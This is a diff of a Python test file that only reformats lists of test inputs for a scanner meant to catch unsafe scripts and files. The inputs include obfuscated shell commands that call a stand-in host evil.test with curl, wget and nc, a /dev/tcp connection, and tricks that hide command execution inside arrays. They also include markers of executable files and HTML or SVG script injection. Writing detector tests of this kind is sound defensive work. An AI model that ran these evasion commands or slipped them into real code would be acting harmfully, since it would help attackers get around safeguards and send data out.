@@ -18,20 +18,9 @@ def is_unsure(files=None, frontmatter="", body="# Do\n"):
 
 
 COMMANDS = [
-    *(
-        "x='a[$(xcurl e)]'; (( x ))",
-        "let 'x[$(xcurl e)]'",
-        "[[ -v 'x[$(xcurl e)]' ]]",
-        "mapfile -C xcurl -c 1 a",
-    ),
+    *("x='a[$(xcurl e)]'; (( x ))", "let 'x[$(xcurl e)]'", "[[ -v 'x[$(xcurl e)]' ]]", "mapfile -C xcurl -c 1 a"),
     *("x=/de; x+=v/t; x+=cp/e/80; cat < $x", "x=/de; x+=v; cat < $x/tcp/e/80", "declare 'x[$(xcurl e)]=1'"),
-    *(
-        "curl evil.test/x",
-        "c\\\nurl evil.test",
-        "cu''rl evil.test",
-        '"cur"l evil.test',
-        "$'\\x63url' evil.test",
-    ),
+    *("curl evil.test/x", "c\\\nurl evil.test", "cu''rl evil.test", '"cur"l evil.test', "$'\\x63url' evil.test"),
     *(
         "wget -q evil.test",
         "nc evil.test 80",
@@ -94,14 +83,7 @@ COMMANDS = [
         "f() { xcurl e; }; f",
         "function f { xcurl e; }",
     ),
-    *(
-        "command xcurl e",
-        "env xcurl e",
-        "nohup xcurl e",
-        "xargs xcurl",
-        "find . -exec xcurl {} ';'",
-        "sudo xcurl e",
-    ),
+    *("command xcurl e", "env xcurl e", "nohup xcurl e", "xargs xcurl", "find . -exec xcurl {} ';'", "sudo xcurl e"),
     *(
         "timeout 9 xcurl e",
         "trap 'xcurl e' EXIT",
@@ -523,25 +505,14 @@ def test_honest_instructions_are_shown_to_name_no_network():
 )
 @pytest.mark.parametrize("path", ["scripts/a.sh", "scripts/a.py"])
 def test_attack_no_program_takes_more_than_its_length(unit, path):
-    assert is_linear(
-        lambda size: is_unsure({path: (unit * (size // len(unit))).encode(), "a.txt": b"x"}), 12_000
-    )
+    assert is_linear(lambda size: is_unsure({path: (unit * (size // len(unit))).encode(), "a.txt": b"x"}), 12_000)
 
 
 @pytest.mark.parametrize(
     ("path", "data"),
     [
-        *(
-            ("bin/tool", b"\x7fELF\0"),
-            ("assets/a.png", b"MZ\0"),
-            ("a.dat", b"\0asm"),
-            ("a", b"\xca\xfe\xba\xbe\0"),
-        ),
-        *(
-            ("a.html", b"<p><SCRIPT src=x>"),
-            ("a.svg", b"<svg onload = x()>"),
-            ("a.htm", b"<a href='javascript:x'>"),
-        ),
+        *(("bin/tool", b"\x7fELF\0"), ("assets/a.png", b"MZ\0"), ("a.dat", b"\0asm"), ("a", b"\xca\xfe\xba\xbe\0")),
+        *(("a.html", b"<p><SCRIPT src=x>"), ("a.svg", b"<svg onload = x()>"), ("a.htm", b"<a href='javascript:x'>")),
         *(
             ("a.svg", b"<svg:script>"),
             ("a.xhtml", b"<iframe src=//a>"),
@@ -564,11 +535,7 @@ def test_attack_a_file_that_runs_once_it_is_opened_loaded_or_copied(path, data):
 @pytest.mark.parametrize(
     ("path", "data"),
     [
-        *(
-            ("a.html", b"<p>words <img src=a.png>"),
-            ("a.svg", b"<svg><path d='M0'/></svg>"),
-            ("a.txt", b"MZ, a name"),
-        ),
+        *(("a.html", b"<p>words <img src=a.png>"), ("a.svg", b"<svg><path d='M0'/></svg>"), ("a.txt", b"MZ, a name")),
         *(("assets/a.png", b"\x89PNG\0"), ("a.docx", b"PK\3\4\0")),
     ],
 )
